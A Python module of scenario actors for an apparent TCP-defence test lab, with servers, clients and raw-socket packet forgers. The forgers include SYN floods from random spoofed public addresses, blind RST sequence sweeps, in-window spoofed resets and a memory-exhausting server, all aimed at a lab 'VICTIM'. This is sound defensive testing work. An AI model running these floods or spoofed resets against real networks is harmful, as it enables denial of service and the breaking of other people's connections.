# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""What the actors of a scenario do: servers, clients, and those who forge segments. Each is the
function of a lab.Child; all are bounded in rate and in time."""
import errno
import os
import random
import select
import signal
import socket
import struct
import time

from harness import ACK, RST, SYN, linger_0, segment, send_sequence  # noqa: F401
from lab import VICTIM

REQUEST = b"GET / HTTP/1.0\r\n\r\n"
ANSWER = b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok"


# --- servers ---


def listen(port, backlog, address="0.0.0.0"):
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((address, port))
    sock.listen(backlog)
    return sock


def serve(say, port, backlog=1024, accepts=None, keep=False, seconds=120, idle=None, unread=False):
    """Answers each request and closes; with keep it goes on; with idle it closes what was quiet so
    long. accepts: so many connections a second, 0 for none. unread: closes without reading."""
    listener = listen(port, backlog)
    say(ready=1, pid=os.getpid())
    poll = select.epoll()
    open_ = {}
    end = time.monotonic() + seconds
    next_accept = time.monotonic()
    if accepts is None:
        poll.register(listener, select.EPOLLIN)
    while time.monotonic() < end:
        events = poll.poll(0.02 if accepts or idle else 0.5)
        now = time.monotonic()
        if accepts and now >= next_accept:
            next_accept = now + 1 / accepts
            listener.setblocking(False)
            try:
                events.append((listener.fileno(), select.EPOLLIN))
            finally:
                listener.setblocking(True)
            if not select.select([listener], [], [], 0)[0]:
                events.pop()
        for fd, _event in events:
            if fd == listener.fileno():
                sock = listener.accept()[0]
                if unread:
                    time.sleep(0.01)
                    sock.close()
                    continue
                sock.setblocking(False)
                open_[sock.fileno()] = [sock, now]
                poll.register(sock, select.EPOLLIN)
                continue
            sock = open_[fd][0]
            open_[fd][1] = now
            try:
                data = sock.recv(65536)
                if data:
                    sock.send(ANSWER)
            except OSError:
                data = b""
            if not data or not keep:
                poll.unregister(fd)
                sock.close()
                del open_[fd]
        if idle:
            for fd in [fd for fd, (_, last) in open_.items() if now - last > idle]:
                poll.unregister(fd)
                open_.pop(fd)[0].close()


def eat_memory(say, port, backlog=128):
    """A server that answers until SIGUSR1, then takes memory until the kernel ends it."""
    def eat(*_):
        kept = []
        while True:
            kept.append(b"x" * (1 << 20))
    signal.signal(signal.SIGUSR1, eat)
    serve(say, port, backlog)


# --- clients ---


def clients(say, port, rate, seconds, sources, target=VICTIM, timeout=3.0, request=REQUEST,
            abort=0.0, retry=False):
    """Connects `rate` times a second from `sources`, one after the other, asks, reads to the end
    and closes (or resets: the share `abort`). Says when the first one was refused or reset
    (refused=, reset=), and at the end what came of all (done=)."""
    dice = random.Random(port)
    poll, waiting = select.epoll(), {}
    count = {"ok": 0, "refused": 0, "reset": 0, "timeout": 0, "other": 0}
    start = time.monotonic()
    made, total = 0, int(rate * seconds)

    def over(fd, how):
        sock = waiting.pop(fd)[0]
        poll.unregister(fd)
        if how in ("refused", "reset") and not count[how]:
            say(**{how: time.time(), "port": sock.getsockname()[1]})
        count[how] += 1
        if how == "ok" and dice.random() < abort:
            linger_0(sock)
        sock.close()

    while made < total or waiting:
        now = time.monotonic()
        while made < total and now >= start + made / rate:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
            if sources:
                sock.bind((sources[made % len(sources)], 0))
            made += 1
            sock.connect_ex((target, port))
            waiting[sock.fileno()] = [sock, now, False]
            poll.register(sock, select.EPOLLOUT)
        for fd, _event in poll.poll(0.01):
            sock, _since, sent = waiting[fd]
            try:
                if not sent:
                    error = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    if error:
                        raise OSError(error, "connect")
                    sock.send(request)
                    waiting[fd][2] = True
                    poll.modify(fd, select.EPOLLIN)
                elif not sock.recv(65536) or abort:
                    over(fd, "ok")
            except ConnectionRefusedError:
                over(fd, "refused")
            except ConnectionResetError:
                over(fd, "reset")
            except OSError:
                over(fd, "other")
        for fd in [fd for fd, (_, since, _) in waiting.items() if now - since > timeout]:
            over(fd, "timeout")
    say(done={**count, "seconds": time.monotonic() - start})


def hold(say, port, source, target=VICTIM, interval=0.1, seconds=60, count=1):
    """Connections that are kept, and on which something is asked each interval."""
    socks = []
    for _ in range(count):
        sock = socket.socket()
        sock.bind((source, 0))
        sock.connect((target, port))
        socks.append(sock)
    say(ports=[sock.getsockname()[1] for sock in socks], at=time.time())
    end = time.monotonic() + seconds
    while socks and time.monotonic() < end:
        for sock in list(socks):
            try:
                sock.send(b"more")
                sock.recv(4096, socket.MSG_DONTWAIT)
            except BlockingIOError:
                pass
            except OSError as error:
                say(lost=errno.errorcode.get(error.errno, "?"), at=time.time())
                socks.remove(sock)
        time.sleep(interval)


def listen_each(say, addresses):
    """Takes connections at each (address, port), and closes them."""
    listeners = [listen(port, 16, address) for address, port in addresses]
    say(ready=1)
    while True:
        for listener in select.select(listeners, [], [])[0]:
            listener.accept()[0].close()


def connect_each(say, addresses, interval, timeout=0.3):
    """One connect() after the other to (address, port)."""
    say(at=time.time())
    for number, (address, port) in enumerate(addresses):
        sock = socket.socket()
        sock.settimeout(timeout)
        sock.connect_ex((address, port))
        sock.close()
        say(tried=number + 1, time=time.time())
        time.sleep(interval)


def ask_each(say, addresses, interval, seconds):
    """Connects to each of (address, port) in turn and asks there; says what is refused."""
    end, n = time.monotonic() + seconds, 0
    refused = 0
    while time.monotonic() < end:
        address, port = addresses[n % len(addresses)]
        n += 1
        sock = socket.socket()
        sock.settimeout(1)
        error = sock.connect_ex((address, port))
        if error == errno.ECONNREFUSED:
            refused += 1
            say(refused=refused, at=time.time())
        elif not error:
            try:
                sock.send(REQUEST)
                sock.recv(4096)
            except OSError:
                pass
        sock.close()
        time.sleep(interval)


# --- forged ---


def forged_source():
    """A public unicast address that is nobody's here."""
    while True:
        address = random.randrange(11 << 24, 223 << 24)
        if address >> 24 not in (127, 169, 172, 192):
            return socket.inet_ntoa(address.to_bytes(4, "big"))


def packet(source, source_port, target, target_port, flags, ttl=64, **more):
    body = segment(source, source_port, target, target_port, flags, **more)
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), random.randrange(65536), 0, ttl, 6,
                       0, socket.inet_aton(source), socket.inet_aton(target)) + body


LINUX_OPTIONS = bytes.fromhex("020405b40402080a0001020300000000") + bytes.fromhex("01030307")


def flood(say, port, rate, seconds, sources=None, flags=SYN, source_port=None, target=VICTIM,
          linux=False, on=None, off=0):
    """Segments at this rate, from forged sources or from these; on and off: pulses."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    total = int(rate * seconds)
    more = {"options": LINUX_OPTIONS} if linux and flags & SYN else {}
    made = []
    for number in range(min(total, 20000)):
        source = sources[number % len(sources)] if sources else forged_source()
        to = random.choice(port) if isinstance(port, list) else port
        made.append(packet(source, source_port or random.randrange(1024, 65535), target, to, flags,
                           sequence=random.randrange(1 << 32), **more))
    say(at=time.time())
    start, sent = time.monotonic(), 0
    while sent < total:
        now = time.monotonic() - start
        if on:  # the time that counts stands still in the pauses
            rounds, rest = divmod(now, on + off)
            now = rounds * on + min(rest, on)
        due = min(total, int(now * rate) + 1)
        while sent < due:
            sock.sendto(made[sent % len(made)], (target, 0))
            sent += 1
        time.sleep(0.001 if rate > 500 else 0.5 / rate)
    say(sent=sent, end=time.time())


def send_each(say, segments, interval):
    """Ready segments: (source, source port, port, flags, and where to, if that is not the
    victim's usual address), one each interval."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number, (source, source_port, port, flags, *target) in enumerate(segments):
        target = target[0] if target else VICTIM
        sock.sendto(packet(source, source_port, target, port, flags,
                           sequence=random.randrange(1 << 32), options=LINUX_OPTIONS
                           if flags == SYN else b""), (target, 0))
        say(sent=number + 1, at=time.time())
        time.sleep(interval)


def forge_exact(say, source, port, ttl, burst, connections, gap):
    """The real peer of some connections, and somebody who sends the one RST that is accepted, in
    the peer's name; burst: more of them, with rising numbers. Then the real peer goes on."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    socks = []
    for _ in range(connections):
        sock = socket.socket()
        sock.bind((source, 0))
        sock.connect((VICTIM, port))
        sock.send(b"hello")
        sock.recv(4096)
        socks.append(sock)
    say(ready=1)
    time.sleep(0.5)
    for sock in socks:
        number = send_sequence(sock)
        for nth in range(burst):
            raw.sendto(packet(source, sock.getsockname()[1], VICTIM, port, RST, ttl=ttl,
                              sequence=number + 1460 * nth), (VICTIM, 0))
        time.sleep(gap)
        at = time.time()
        sock.send(b"still here")
        say(at=at, port=sock.getsockname()[1])
    time.sleep(1)
    say(end=time.time())


def sweep(say, source, source_port, port, count, seconds, flags=RST, step=60000):
    """Blind guesses into a connection, spread evenly."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    base = random.randrange(1 << 32)
    made = [packet(source, source_port, VICTIM, port, flags, sequence=(base + i * step) % (1 << 32))
            for i in range(count)]
    say(at=time.time())
    start = time.monotonic()
    for number, one in enumerate(made):
        sock.sendto(one, (VICTIM, 0))
        late = start + seconds * number / count - time.monotonic()
        if late > 0.001:
            time.sleep(late)
    say(end=time.time())


# --- connections that one end forgets ---


def serve_and_forget(say, port):
    """Keeps its connections, and at SIGUSR1 drops all of them at once with a reset."""
    listener = listen(port, 256)
    told = []
    signal.signal(signal.SIGUSR1, lambda *_: told.append(1))
    signal.siginterrupt(signal.SIGUSR1, True)
    say(ready=1)
    kept = []
    listener.settimeout(0.05)
    while not told:
        try:
            kept.append(listener.accept()[0])
            kept[-1].recv(100)
            kept[-1].send(b"ok")
        except (TimeoutError, InterruptedError):
            pass
    for sock in kept:
        linger_0(sock)
        sock.close()
    say(forgot=len(kept))
    time.sleep(120)


def keep_and_write(say, port, source, count, interval=0.2, address=VICTIM):
    """So many connections; at SIGUSR1 something is written on each, one after the other."""
    told = []
    signal.signal(signal.SIGUSR1, lambda *_: told.append(1))
    socks = []
    for _ in range(count):
        sock = socket.socket()
        sock.bind((source, 0))
        sock.connect((address, port))
        sock.send(b"hello")
        sock.recv(100)
        socks.append(sock)
    say(ready=1)
    while not told:
        time.sleep(0.02)
    for number, sock in enumerate(socks):
        say(at=time.time(), number=number)
        try:
            sock.send(b"still there?")
        except OSError:
            pass
        time.sleep(interval)


# --- harmless ---


def health_checks(say, port, source, interval, seconds, how):
    """What a load balancer does: connects, and resets (or closes) without a word."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sock = socket.socket()
        sock.settimeout(1)
        sock.bind((source, 0))
        if not sock.connect_ex((VICTIM, port)) and how == "linger":
            linger_0(sock)
        sock.close()
        time.sleep(interval)


def half_open_checks(say, port, source, interval, seconds):
    """SYN, and RST for the answer, which the kernel sends by itself, as no socket is there."""
    end = time.monotonic() + seconds
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    while time.monotonic() < end:
        raw.sendto(packet(source, random.randrange(20000, 60000), VICTIM, port, SYN,
                          options=LINUX_OPTIONS, sequence=random.randrange(1 << 32)), (VICTIM, 0))
        time.sleep(interval)


def pool(say, port, source, size, idle, seconds, target=VICTIM):
    """Pooled connections that are used now and then, longer apart than the server keeps them."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        socks = []
        for _ in range(size):
            sock = socket.socket()
            sock.settimeout(1)
            sock.bind((source, 0))
            if sock.connect_ex((target, port)):
                continue
            sock.send(REQUEST)
            sock.recv(4096)
            socks.append(sock)
        time.sleep(idle)
        for sock in socks:
            try:
                sock.send(REQUEST)
                sock.recv(4096)
            except OSError:
                pass
            sock.close()


def passive_transfers(say, source, rounds):
    """As in passive FTP: the server names a fresh port each time, and listens there once."""
    for _ in range(rounds):
        control = socket.socket()
        control.bind((source, 0))
        control.connect((VICTIM, 21))
        port = int(control.recv(100))
        data = socket.socket()
        data.bind((source, 0))
        data.connect((VICTIM, port))
        while data.recv(65536):
            pass
        data.close()
        control.close()
        time.sleep(0.05)


def serve_passive(say):
    listener = listen(21, 64)
    say(ready=1)
    while True:
        control = listener.accept()[0]
        once = listen(0, 1)
        control.send(str(once.getsockname()[1]).encode())
        data = once.accept()[0]
        once.close()
        data.sendall(b"x" * 20000)
        data.close()
        control.close()


def late_answers(say, port, target, count):
    """Gives up connecting before the answer comes."""
    for _ in range(count):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((target, port))
        time.sleep(0.05)
        sock.close()
        time.sleep(0.2)


def knock(say, source, ports, port):
    for closed in ports:
        sock = socket.socket()
        sock.settimeout(1)
        sock.bind((source, 0))
        sock.connect_ex((VICTIM, closed))
        sock.close()
        time.sleep(0.3)
    clients(say, port, 1, 1, [source])


def data_then_reset(say, port, source, count, interval):
    """The data and the reset are sent in one go."""
    for _ in range(count):
        sock = socket.socket()
        sock.bind((source, 0))
        sock.connect((VICTIM, port))
        sock.send(REQUEST)
        sock.recv(4096)
        for _ in range(3):
            sock.send(b"x" * 3000)
        linger_0(sock)
        sock.close()
        time.sleep(interval)
